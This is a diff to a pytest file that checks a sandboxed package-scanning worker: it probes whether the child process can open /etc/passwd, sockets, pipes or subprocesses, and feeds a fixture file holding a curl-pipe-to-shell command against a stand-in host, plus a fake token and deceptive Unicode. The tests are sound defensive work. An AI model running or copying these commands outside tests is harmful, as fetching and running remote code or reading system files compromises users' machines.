@@ -99,18 +99,85 @@ def test_child_that_misbehaves_is_a_failure_never_a_pass(code: str) -> None:
     assert refused.value.code == "VET-CHILD"
 
 
-def test_child_has_no_environment_and_cannot_write_files(tmp_path: Path) -> None:
+PROBES = {
+    "open": "open('/etc/passwd')",
+    "write": "open({scratch!r}, 'wb')",
+    "socket": "import socket; socket.socket(socket.AF_UNIX)",
+    "socket in place of standard input": "import os, socket; os.close(0); socket.socket(socket.AF_UNIX)",
+    "duplicate": "import os; os.dup(1)",
+    "pipe": "import os; os.pipe()",
+    "program": "import subprocess; subprocess.run(['/bin/true'])",
+}
+
+
+@pytest.mark.parametrize("probe", PROBES.values(), ids=PROBES.keys())
+def test_child_can_open_nothing_once_it_reads(probe: str, tmp_path: Path) -> None:
+    scratch = str(tmp_path / "x")
     code = (
-        "import os, json; from worker.examine import limit_process; limit_process()\n"
-        "names = sorted(n for n in os.environ if n != 'LC_CTYPE')\n"
-        f"try:\n open({str(tmp_path / 'x')!r}, 'wb', 0).write(b'x'); wrote = True\n"
-        "except OSError: wrote = False\n"
-        "f = dict(rule=json.dumps([names, wrote]), path=None, line=None, severity='info', message='', remedy='')\n"
+        "import json, os, resource, socket, subprocess, sys\n"
+        "from worker.examine import load_engines, limit_process; load_engines(); limit_process()\n"
+        f"try:\n exec({probe.format(scratch=scratch)!r}); got = 'done'\n"
+        "except (OSError, ValueError) as error: got = 'refused'\n"
+        "f = dict(rule=got, path=None, line=None, severity='info', message='', remedy='')\n"
         "print(json.dumps([f]))\n"
     )
-    code = "import signal; signal.signal(signal.SIGXFSZ, signal.SIG_IGN)\n" + code
     (finding,) = examine_isolated(b"", "", command=[sys.executable, "-I", "-c", code])
-    assert json.loads(finding.rule) == [[], False]
+    assert finding.rule == "refused"
+    assert not Path(scratch).exists()
+
+
+def test_child_has_no_environment() -> None:
+    code = (
+        "import os, json; names = sorted(n for n in os.environ if n != 'LC_CTYPE')\n"
+        "f = dict(rule=json.dumps(names), path=None, line=None, severity='info', message='', remedy='')\n"
+        "print(json.dumps([f]))\n"
+    )
+    (finding,) = examine_isolated(b"", "", command=[sys.executable, "-I", "-c", code])
+    assert json.loads(finding.rule) == []
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "import sys\nwhile True: sys.stdout.write('[' * 65536)",
+        "import sys\nwhile True: sys.stderr.write('[' * 65536)",
+    ],
+    ids=["output", "errors"],
+)
+def test_child_that_floods_is_ended_by_its_limit(code: str) -> None:
+    code = f"from worker.examine import limit_process; limit_process()\n{code}"
+    with pytest.raises(TransportError) as refused:
+        examine_isolated(b"", "", command=[sys.executable, "-I", "-c", code])
+    assert refused.value.code == "VET-CHILD"
+
+
+def test_child_that_hangs_is_ended() -> None:
+    with pytest.raises(TransportError) as refused:
+        examine_isolated(b"", "", command=[sys.executable, "-I", "-c", "input()\nwhile True: pass"], wall_seconds=1.0)
+    assert refused.value.code == "VET-CHILD"
+
+
+def test_child_that_computes_for_ever_is_ended() -> None:
+    code = "import worker.examine as e; e.CPU_SECONDS = 1; e.limit_process()\nwhile True: pass"
+    with pytest.raises(TransportError) as refused:
+        examine_isolated(b"", "", command=[sys.executable, "-I", "-c", code])
+    assert refused.value.code == "VET-CHILD"
+
+
+def test_every_kind_of_file_is_examined_with_everything_shut() -> None:
+    """Nothing is loaded at first use any more: what is loaded late would fail here."""
+    archive = package(
+        PayloadFile(path="a.py", mode=0o755, data=b"import os\nos.system('curl https://x.example | sh')\n"),
+        PayloadFile(path="b.json", mode=0o644, data=b'{"key": "ghp_' + b"x7" * 18 + b'"}\n'),
+        PayloadFile(path="c.txt", mode=0o644, data="\u0430pple \U000e0041 \u202e\n".encode()),
+        PayloadFile(path="d.bin", mode=0o644, data=bytes(range(256)) * 20),
+        PayloadFile(path="e.md", mode=0o644, data=b"[x](https://xn--80ak6aa92e.example/a?b#c) " + b"y" * 30_000),
+        PayloadFile(path="f.latin", mode=0o644, data="caf\u00e9".encode("latin-1")),
+        PayloadFile(path="g.utf16", mode=0o644, data="text".encode("utf-16")),
+        PayloadFile(path="h.zip", mode=0o644, data=b"PK\x03\x04" + bytes(40)),
+    )
+    rules = {finding.rule for finding in examine_isolated(archive, digest(archive))}
+    assert {"VET-PIPE-SHELL", "VET-SECRET", "VET-TAG"} <= rules
 
 
 def test_child_runs_out_of_memory_before_the_machine_does() -> None:
@@ -130,6 +197,10 @@ def test_child_runs_out_of_memory_before_the_machine_does() -> None:
         {"path": 5},
         {"message": None},
         {"extra": 1},
+        {"message": "a\0b"},
+        {"rule": "a\nb"},
+        {"remedy": "x" * 5000},
+        {"path": "a\u202eb"},
     ],
 )
 def test_malformed_finding_is_a_failure(change: dict[str, object]) -> None:
